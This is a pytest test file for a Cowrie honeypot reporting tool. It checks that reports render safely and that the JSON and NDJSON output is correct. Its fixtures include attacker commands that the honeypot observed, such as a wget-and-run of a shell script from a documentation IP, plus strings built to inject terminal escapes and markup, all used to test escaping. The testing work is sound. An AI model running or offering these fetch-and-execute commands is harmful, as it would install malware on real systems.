"""Tests for rendering report documents: Rich tables, JSON and NDJSON."""

from __future__ import annotations

import io
import json
import random
import re
import time
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text

from cowrieprocessor.reporting.periods import Period, parse_period
from cowrieprocessor.reporting.render import escape_controls, render_report, safe_text
from cowrieprocessor.reporting.serialize import to_json, to_ndjson

HASH = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
BIG_COMMAND = "echo " + "A" * 100_000
HOSTILE = [
    "[bold]x[/bold]",
    "[/x]",
    ":smile:",
    "\x1b[2J",
    "nul\x00byte",
    "\u202eevil.exe",
    "tab\tnew\nline",
]


def top(values: list[str], start: int = 100) -> list[dict[str, Any]]:
    """A top list with strictly decreasing counts."""
    return [{"value": value, "count": start - 7 * i} for i, value in enumerate(values)]


def example_document(
    report_type: str = "daily",
    label: str | None = None,
    *,
    sensor: str = "honeypot-fra-01",
    hostile: bool = False,
) -> dict[str, Any]:
    """A realistic report document, schema_version 1 (see docs/report-schema.md)."""
    defaults = {"daily": "2024-03-07", "weekly": "2024-W10", "monthly": "2024-02"}
    period = parse_period(report_type, label or defaults[report_type])
    rng = random.Random(f"{report_type}{period.label}")
    usernames = ["root", "admin", "ubuntu", "test", "oracle", "", "pi", "user"]
    passwords = ["123456", "admin", "password", "root", "", "1qaz@WSX", "raspberry"]
    commands = [
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp && wget http://203.0.113.9/x.sh && sh x.sh",
        "echo -e '\\x41'",
        "free -m",
    ]
    if hostile:
        usernames = HOSTILE + usernames
        passwords = [BIG_COMMAND[:500], *HOSTILE, *passwords]
        commands = [BIG_COMMAND, *HOSTILE, *commands]
    total_sessions = 1234 * len(period.days)
    document: dict[str, Any] = {
        "@timestamp": period.start_datetime.isoformat(),
        "generated_at": datetime(2024, 3, 8, 0, 5, 12, tzinfo=UTC).isoformat(),
        "schema_version": 1,
        "report_type": report_type,
        "sensor": "[red]sensor[/red] :smile:\x1b[2J" if hostile else sensor,
        **period.document_fields(),
        "sessions": {
            "total": total_sessions,
            "unique_ips": 567 * len(period.days) // 2 + 1,
            "unique_usernames": 89,
            "unique_passwords": 345,
            "login_attempts": 9876,
            "login_successes": 432,
            "avg_commands": 3.14,
            "max_commands": 250,
            "min_commands": 0,
            "avg_duration": 83.25,
            "protocols": {"ssh": total_sessions - 300, "telnet": 300},
            "top_usernames": top(usernames),
            "top_passwords": top(passwords),
            "top_combinations": top(
                [f"{u}:{p}" for u, p in zip(usernames, passwords, strict=False)]
            ),
            "top_source_ips": top(["198.51.100.7", "203.0.113.9", "2001:db8::dead:beef"]),
            "vt_flagged": 12,
            "dshield_flagged": 345,
        },
        "commands": {"total": 3875, "unique": 211, "top_commands": top(commands)},
        "files": {
            "downloads_total": 77,
            "uploads_total": 3,
            "unique_hashes": 19,
            "top_hashes": top([HASH, "a" * 64]),
            "top_urls": top(["http://203.0.113.9/x.sh", "http://198.51.100.1/bins/mips"]),
            "unique_vt_classifications": 2,
            "vt_classifications_top": top(["trojan.mirai/gafgyt", "miner.xmrig"]),
            "recent_vt_submissions": 1,
        },
        "enrichments": {
            "urlhaus_tags_top": top(["mirai", "elf"]),
            "asn_top": top(["AS14061 DIGITALOCEAN-ASN", "AS4134 Chinanet"]),
            "country_top": top(["CN", "US", "NL"]),
            "spur_infrastructure_top": [],
            "spur_tunnels": {"total": 40, "anonymous": 7},
        },
        "abnormalities": {
            "uncommon_command_sessions": ["a1b2c3d4e5f6", "0badc0ffee00"],
            "recent_vt_submission_sessions": ["a1b2c3d4e5f6"],
        },
        "alerts": [
            {
                "type": "ip_spike",
                "severity": "medium",
                "message": "Unique IPs (567) above 1.5x the 7-day average (201.4)",
                "current": 567,
                "average": 201.43,
            },
            {
                "type": "new_vt_classification",
                "severity": "high",
                "message": (
                    "New VirusTotal classification [bold]x[/bold] :smile: \x1b[2J"
                    if hostile
                    else "New VirusTotal classification: miner.xmrig"
                ),
                "classifications": ["miner.xmrig"],
            },
        ],
    }
    if report_type != "daily":
        daily = []
        for day in period.days:
            sessions = rng.randint(200, 2500)
            daily.append(
                {
                    "date": day.isoformat(),
                    "sessions": sessions,
                    "unique_ips": sessions // 3,
                    "commands": sessions * 3,
                    "downloads": sessions // 40,
                }
            )
        daily[2]["sessions"] = 0
        document["days_included"] = len(period.days)
        document["daily"] = daily
        document["trends"] = {
            "sessions_change": 12.5,
            "unique_ips_change": -3.27,
            "downloads_change": None,
            "files_change": None,
        }
        document["daily_average"] = {
            "sessions": round(total_sessions / len(period.days), 2),
            "commands": round(3875 / len(period.days), 2),
            "downloads": round(77 / len(period.days), 2),
        }
        document["alerts_summary"] = {"ip_spike": 3, "new_vt_classification": 1}
    return document


def render_to_text(
    document: dict[str, Any],
    width: int = 100,
    uncommon_total: int | None = None,
    **console_kwargs: Any,
) -> str:
    options: dict[str, Any] = {"color_system": None, "force_terminal": False}
    options.update(console_kwargs)
    console = Console(file=io.StringIO(), width=width, **options)
    console.print(render_report(document, uncommon_total=uncommon_total))
    return console.file.getvalue()  # type: ignore[attr-defined]


# --- rendering ----------------------------------------------------------------------------------


@pytest.mark.parametrize("report_type", ["daily", "weekly", "monthly"])
@pytest.mark.parametrize("width", [80, 100, 160])
def test_render_shows_headline_figures(report_type: str, width: int) -> None:
    document = example_document(report_type)
    output = render_to_text(document, width)
    lines = output.splitlines()
    assert all(len(line) <= width for line in lines), max(lines, key=len)
    period = Period.containing(report_type, date.fromisoformat(document["date_range"]["start"]))
    for expected in [
        f"Cowrie {report_type} report {period.label}",
        "honeypot-fra-01",
        f"{document['sessions']['total']:,}",  # sessions
        f"{document['sessions']['unique_ips']:,}",
        "9,876",  # login attempts
        "432",  # login successes
        "3,875",  # commands total
        "211",  # commands unique
        "77",  # downloads
        "3.14",  # avg commands
        "0 / 250",  # min / max commands
        "83.25 s",  # avg duration
        "root",
        "123456",
        "root:123456",
        "198.51.100.7",
        "uname -a",
        HASH,  # full hash fits even at 80 columns
        "http://203.0.113.9/x.sh",
        "ssh",
        "telnet",
        "new_vt_classification",
        "(empty)",
    ]:
        assert expected in output, expected
    if report_type == "daily":
        assert "Per day" not in output
    else:
        assert "Per day" in output
        assert "█" in output  # bars
        assert "▲ +12.50%" in output
        assert "▼ -3.27%" in output
        assert "n/a (previous was 0)" in output
        for day in period.days:
            assert day.isoformat() in output


@pytest.mark.parametrize("seconds", [2.04, 2385.0, 7384.5, 0.0])
def test_durations_have_one_form_in_every_report(seconds: float) -> None:
    """It was '2.04 s' in one report and '39m 45s' in another."""
    document = example_document("monthly")
    document["sessions"]["avg_duration"] = seconds
    output = render_to_text(document, 100)
    assert re.search(r"Avg duration +" + re.escape(f"{seconds:,.2f} s"), output), output
    assert not re.search(r"\d+m \d\ds", output)


@pytest.mark.parametrize("width", [80, 120])
def test_odd_command_sessions_show_how_many_qualify_and_which(width: int) -> None:
    """It showed the length of the cut list as the number of sessions, and no ids."""
    document = example_document("daily")
    ids = document["abnormalities"]["uncommon_command_sessions"]
    with_total = render_to_text(document, width, uncommon_total=36)
    assert re.search(r"Odd-command sessions +36\b", with_total)
    assert f"Odd-command sessions ({len(ids)} of 36)" in with_total
    assert all(session_id in with_total for session_id in ids)
    without = render_to_text(document, width)  # the document alone: what it lists
    assert re.search(rf"Odd-command sessions +{len(ids)} listed", without)
    assert f"Odd-command sessions ({len(ids)})" in without
    document["abnormalities"]["uncommon_command_sessions"] = []
    assert "Odd-command sessions (" not in render_to_text(document, width, uncommon_total=0)


def test_top_list_counts_are_right_aligned() -> None:
    output = render_to_text(example_document("daily"), 100)
    # The counts of the first two usernames (100 and 93) end in the same column.
    first = next(line for line in output.splitlines() if line.startswith("root "))
    second = next(line for line in output.splitlines() if line.startswith("admin "))
    assert first.index("100") + 3 == second.index("93") + 2


def test_hostile_strings_render_literally() -> None:
    document = example_document("weekly", hostile=True)
    start = time.perf_counter()
    output = render_to_text(document, 100)
    elapsed = time.perf_counter() - start
    assert elapsed < 2.0, elapsed
    assert "[bold]x[/bold]" in output
    assert "[/x]" in output
    assert "[red]sensor[/red]" in output
    assert ":smile:" in output
    assert "😄" not in output
    assert "\\x1b[2J" in output
    assert "\\x00" in output
    assert "\\u202e" in output
    assert "tab\\tnew\\nline" in output
    for raw in ("\x1b", "\x00", "\u202e", "\t"):
        assert raw not in output, repr(raw)
    assert "A" * 200 not in output  # the 100 KB command is cut ...
    assert "echo AAAA" in output
    assert "A…" in output  # ... with an ellipsis
    assert len(output) < 50_000


def test_hostile_strings_with_a_colour_terminal() -> None:
    """With colour on, the only escape sequences are Rich's own SGR styles."""
    document = example_document("monthly", hostile=True)
    output = render_to_text(
        document, 120, color_system="truecolor", force_terminal=True, markup=True, emoji=True
    )
    assert "\x1b[2J" not in output  # no screen clear from the data
    assert "😄" not in output
    assert "[bold]x[/bold]" in output
    assert "\u202e" not in output and "\x00" not in output


def test_render_tolerates_partial_documents() -> None:
    output = render_to_text({"report_type": "weekly", "sessions": {"total": 5}}, 80)
    assert "Cowrie weekly report" in output
    assert "No alerts." in output
    assert "(none)" in output
    assert "—" in output
    assert render_to_text({}, 80)


def test_render_empty_period() -> None:
    document = example_document("weekly")
    for day in document["daily"]:
        day["sessions"] = 0
    document["alerts"] = []
    output = render_to_text(document, 80)
    assert "No alerts." in output
    assert "▁▁▁▁▁▁▁" in output


@pytest.mark.parametrize("width", [30, 50, 60])
def test_render_survives_narrow_consoles(width: int) -> None:
    output = render_to_text(example_document("monthly", hostile=True), width)
    assert "Cowrie" in output
    assert "\x1b" not in output


def test_render_returns_a_group() -> None:
    from rich.console import Group

    assert isinstance(render_report(example_document("daily")), Group)


# --- safe_text ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("[bold]x[/bold]", "[bold]x[/bold]"),
        (":smile:", ":smile:"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x00", "\\x00"),
        ("\x7f\x85", "\\x7f\\x85"),
        ("a\nb\tc\rd", "a\\nb\\tc\\rd"),
        ("\u202eabc\u2066", "\\u202eabc\\u2066"),
        ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
        ("nb\u00a0sp", "nb\\xa0sp"),
        ("line\u2028sep", "line\\u2028sep"),
        ("\U000e0041tag", "\\U000e0041tag"),
        ("日本語 ok ü 😀", "日本語 ok ü 😀"),
        ("", ""),
    ],
)
def test_safe_text_escapes(value: str, expected: str) -> None:
    text = safe_text(value)
    assert isinstance(text, Text)
    assert text.plain == expected
    assert escape_controls(value) == expected


def test_safe_text_truncates_by_cells() -> None:
    assert safe_text("x" * 60).plain == "x" * 60
    assert safe_text("x" * 61).plain == "x" * 59 + "…"
    assert safe_text("x" * 10, max_len=5).plain == "xxxx…"
    assert safe_text("x", max_len=1).plain == "x"
    assert safe_text("xy", max_len=1).plain == "…"
    wide = safe_text("日" * 40, max_len=10)
    assert wide.plain == "日日日日…"
    assert wide.cell_len <= 10
    # An escape is never split.
    assert safe_text("abc\x1b", max_len=6).plain == "abc…"
    with pytest.raises(ValueError, match="max_len"):
        safe_text("x", max_len=0)


def test_safe_text_is_fast_on_huge_input() -> None:
    huge = "\x1b" * 1_000_000
    start = time.perf_counter()
    for _ in range(100):
        text = safe_text(huge)
    assert time.perf_counter() - start < 1.0
    assert text.plain.endswith("…")
    combining = "e" + "\u0301" * 1_000_000
    assert len(safe_text(combining).plain) <= 4 * 60 + 1


def test_safe_text_accepts_non_strings() -> None:
    assert safe_text(12345).plain == "12345"  # type: ignore[arg-type]


@given(st.text(), st.integers(min_value=1, max_value=80))
def test_safe_text_never_emits_controls(value: str, max_len: int) -> None:
    import unicodedata

    plain = safe_text(value, max_len).plain
    assert not any(unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for ch in plain)
    assert Text(plain).cell_len <= max_len or len(plain) <= 1


# --- JSON and NDJSON ------------------------------------------------------------------------


NASTY = 'nul\x00 esc\x1b del\x7f nel\x85 ls\u2028 ps\u2029 \ud7ff\ue000 😀𝄞 \U0010ffff "q" \\'


@pytest.mark.parametrize("report_type", ["daily", "weekly", "monthly"])
def test_to_json_round_trips(report_type: str) -> None:
    document = example_document(report_type, hostile=True)
    document["sessions"]["top_usernames"].append({"value": NASTY, "count": 1})
    text = to_json(document)
    assert json.loads(text) == document
    assert list(json.loads(text)) == list(document)  # key order as built
    assert text.startswith('{\n  "@timestamp": ')
    assert "😀𝄞" in text  # UTF-8, not \u escapes
    assert "\x1b" not in text and "\x00" not in text  # controls escaped by JSON


def test_to_json_refuses_nan() -> None:
    with pytest.raises(ValueError):
        to_json({"x": float("nan")})


def test_to_json_converts_dates_and_decimals() -> None:
    from decimal import Decimal

    document = {"d": date(2024, 1, 2), "n": Decimal("3.14"), "i": Decimal("4")}
    assert json.loads(to_json(document)) == {"d": "2024-01-02", "n": 3.14, "i": 4}
    with pytest.raises(TypeError):
        to_json({"x": object()})


def test_to_ndjson_one_line_per_document() -> None:
    documents = [example_document(t, hostile=True) for t in ("daily", "weekly", "monthly")]
    documents[0]["sensor"] = NASTY
    text = to_ndjson(documents)
    assert text.endswith("\n")
    lines = text.splitlines()  # also splits on U+2028, U+0085, ...: must still be 3 lines
    assert len(lines) == 3
    assert [json.loads(line) for line in lines] == documents
    assert text.split("\n")[:-1] == lines
    assert to_ndjson([]) == ""
    assert lines[1] == json.dumps(documents[1], ensure_ascii=False, separators=(",", ":"))


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@given(st.dictionaries(st.text(), json_values, max_size=5))
def test_json_round_trip_property(document: dict[str, Any]) -> None:
    assert json.loads(to_json(document)) == document
    assert [json.loads(line) for line in to_ndjson([document, document]).splitlines()] == [
        document,
        document,
    ]


if __name__ == "__main__":  # pragma: no cover - manual preview: python tests/test_render.py
    import sys

    kind = sys.argv[1] if len(sys.argv) > 1 else "daily"
    Console(width=int(sys.argv[2]) if len(sys.argv) > 2 else None).print(
        render_report(example_document(kind, hostile="hostile" in sys.argv))
    )


@pytest.mark.parametrize("width", [80, 120])
def test_long_commands_and_urls_wrap_in_full(width: int) -> None:
    document = example_document("daily")
    command = "cd /tmp && " + " && ".join(
        f"wget http://198.51.100.{i}/payload{i}" for i in range(8)
    )
    url = "http://203.0.113.9/" + "a" * 150 + "/end.sh"
    document["commands"]["top_commands"] = [{"value": command, "count": 7777}]
    document["files"]["top_urls"] = [{"value": url, "count": 8888}]
    text = render_to_text(document, width)
    # Joined lines without the counts, which stand beside the first line of their value.
    lines = [line.replace("7,777", "").replace("8,888", "") for line in text.splitlines()]
    flat = "".join(line.strip() for line in lines)
    assert command.replace(" ", "") in flat.replace(" ", "")  # every character, wrapped
    assert url in flat
    assert max(len(line) for line in text.splitlines()) <= width


def test_render_shows_the_enrichment_figures() -> None:
    document = example_document("daily")
    document["sessions"]["dshield_flagged"] = 123
    document["enrichments"]["urlhaus_tags_top"] = top(["elf", "mirai"])
    document["enrichments"]["spur_infrastructure_top"] = top(["DATACENTER"])
    document["enrichments"]["greynoise_classification_top"] = top(["malicious"])
    document["enrichments"]["benign_scanner_sessions"] = 4321
    document["files"]["vt_classifications_top"] = top(["Trojan.Mirai"])
    buffer = io.StringIO()
    console = Console(file=buffer, width=120, color_system=None, markup=False, emoji=False)
    names = {"CN": "China", "US": "United States", "NL": "[bold]Netherlands"}
    console.print(render_report(document, country_names=names, sources=["geoip2fast 2024-06-18"]))
    output = buffer.getvalue()
    for expected in [
        "Top countries",
        "CN China",
        "US United States",
        "NL [bold]Netherlands",  # shown literally
        "Top AS",
        "AS14061 DIGITALOCEAN-ASN",
        "DShield flagged",
        "123",
        "SPUR tunnels/anon.",
        "40 / 7",
        "DATACENTER",
        "URLhaus tags",
        "mirai",
        "GreyNoise classes",
        "4,321",
        "Trojan.Mirai",
        "Country/AS data: geoip2fast 2024-06-18 (GeoLite2 data created by MaxMind)",
    ]:
        assert expected in output, expected


def test_the_data_source_line_wraps_whole_and_ends_its_line() -> None:
    """The attribution the data's licence asks for is never cut at the console's width."""
    source = "geoip2fast 1.2.2 geoip2fast-asn-ipv6.dat.gz 4677354 bytes, data of 2024-06-18"
    buffer = io.StringIO()
    console = Console(file=buffer, width=80, color_system=None, markup=False, emoji=False)
    console.print(render_report(example_document("daily"), sources=[source]))
    output = buffer.getvalue()
    assert output.endswith("\n")
    assert "…" not in output.split("Country/AS data:")[1]
    assert "created by MaxMind)" in output
